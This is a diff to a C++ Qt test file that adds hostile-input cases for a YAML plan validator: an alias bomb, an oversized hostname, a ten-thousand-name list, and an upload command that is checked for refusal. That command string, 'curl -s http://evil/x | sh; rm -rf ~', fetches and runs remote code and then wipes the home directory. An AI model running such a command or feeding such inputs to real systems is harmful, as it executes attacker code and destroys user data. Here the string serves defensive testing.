@@ -39,6 +39,14 @@ QByteArray aliasBomb() {
     return text;
 }
 
+// The same bomb, pointed only at the lists that escalation and notifications walk name by name.
+QByteArray escalationAliasBomb() {
+    QByteArray text = aliasBomb();
+    text.truncate(text.indexOf("roles:"));
+    return text + "notifications:\n  - { name: a, url: \"http://127.0.0.1:1/\", events: *l8 }\n"
+                  "escalation: { L1: *l8, L2: *l8, events: { drift: *l8 } }\n";
+}
+
 } // namespace
 
 class TestPlanHostile : public QObject {
@@ -80,6 +88,22 @@ void TestPlanHostile::hostile_data() {
     QTest::newRow("tabs") << QByteArray("version: 1\n\tname: x\n") << -1 << u"YAML"_s;
     QTest::newRow("unclosed-flow-map")
         << QByteArray("version: 1\nname: {a: 1\n") << -1 << u"YAML syntax"_s;
+    QTest::newRow("escalation-alias-bomb")
+        << escalationAliasBomb() << -1 << u"expected a text, found a list"_s;
+    // An upload command is run without a shell: a shell string, however it is dressed, is refused.
+    QTest::newRow("upload-shell-string")
+        << QByteArray("version: 1\nname: x\nrollback:\n  upload:\n    command: \"curl -s "
+                      "http://evil/x | sh; rm -rf ~ # {archive}\"\n")
+        << 5 << u"never a shell string"_s;
+    // A megabyte of hostname must not make the listen address check crawl (no backtracking).
+    QTest::newRow("listen-megabyte")
+        << QByteArray("version: 1\nname: x\ncontroller:\n  listen: \"") + QByteArray(1 << 20, 'a') +
+               QByteArray("!:9464\"\n")
+        << 4 << u"expected host:port"_s;
+    QTest::newRow("escalation-ten-thousand-names")
+        << QByteArray("version: 1\nname: x\nescalation:\n  L1: [") +
+               QByteArray("nobody, ").repeated(10'000) + QByteArray("nobody]\n")
+        << 4 << u"unknown notification 'nobody'"_s;
     QTest::newRow("bom-and-crlf") << QByteArray("\xEF\xBB\xBFversion: 1\r\nname: x\r\n") << 1
                                   << u"missing required key 'roles'"_s;
 }
